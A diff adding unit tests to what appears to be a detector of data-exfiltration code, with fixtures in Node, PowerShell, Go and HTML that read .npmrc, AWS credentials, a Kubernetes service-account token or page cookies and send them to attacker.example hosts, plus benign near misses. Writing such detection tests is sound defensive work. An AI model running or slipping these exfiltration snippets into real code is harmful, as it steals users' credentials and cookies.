@@ -419,3 +419,24 @@ describe("data_exfiltration: PowerShell", () => {
     expect(rules(text)).toEqual([]);
   });
 });
+
+// warden-detect/1.6.2: a file read in one statement and sent in the next, in Node, PowerShell and
+// Go; an image whose error handler appends the page's cookies to its remote URL.
+describe("data_exfiltration: read, then sent", () => {
+  it.each([
+    ["Node", `const body = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');\nconst req = https.request({hostname: 'npm-stats.attacker.example', method: 'POST', path: '/t'});\nreq.write(body); req.end();`, "data_exfiltration.http.send_sensitive"],
+    ["PowerShell", `$d = Get-Content "$env:USERPROFILE\\.aws\\credentials" -Raw\nInvoke-WebRequest -Uri "https://attacker.example/p" -Method POST -Body $d`, "data_exfiltration.http.send_sensitive"],
+    ["Go", `b, _ := os.ReadFile("/var/run/secrets/kubernetes.io/serviceaccount/token")\nhttp.Post("https://k8s-stats.attacker.example/t", "text/plain", strings.NewReader(string(b)))`, "data_exfiltration.http.send_sensitive"],
+    ["an image error handler", `<img src="https://tracker.attacker.example/b.gif?c=" onerror="this.src+=document.cookie" width=1 height=1>`, "data_exfiltration.http.cookie_theft"],
+  ])("%s", (_name, text, rule) => {
+    expect(rules(text)).toContain(rule);
+  });
+
+  it.each([
+    ["Node reading its config and fetching", `const cfg = JSON.parse(fs.readFileSync("config.json", "utf8"));\nhttps.get(cfg.healthUrl, (res) => console.log(res.statusCode));`],
+    ["PowerShell reading a log", `Get-Content .\\build.log -Tail 20`],
+    ["an image with a fallback", `<img src="https://cdn.example.com/a.png" onerror="this.src='/fallback.png'">`],
+  ])("near miss: %s", (_name, text) => {
+    expect(rules(text)).toEqual([]);
+  });
+});
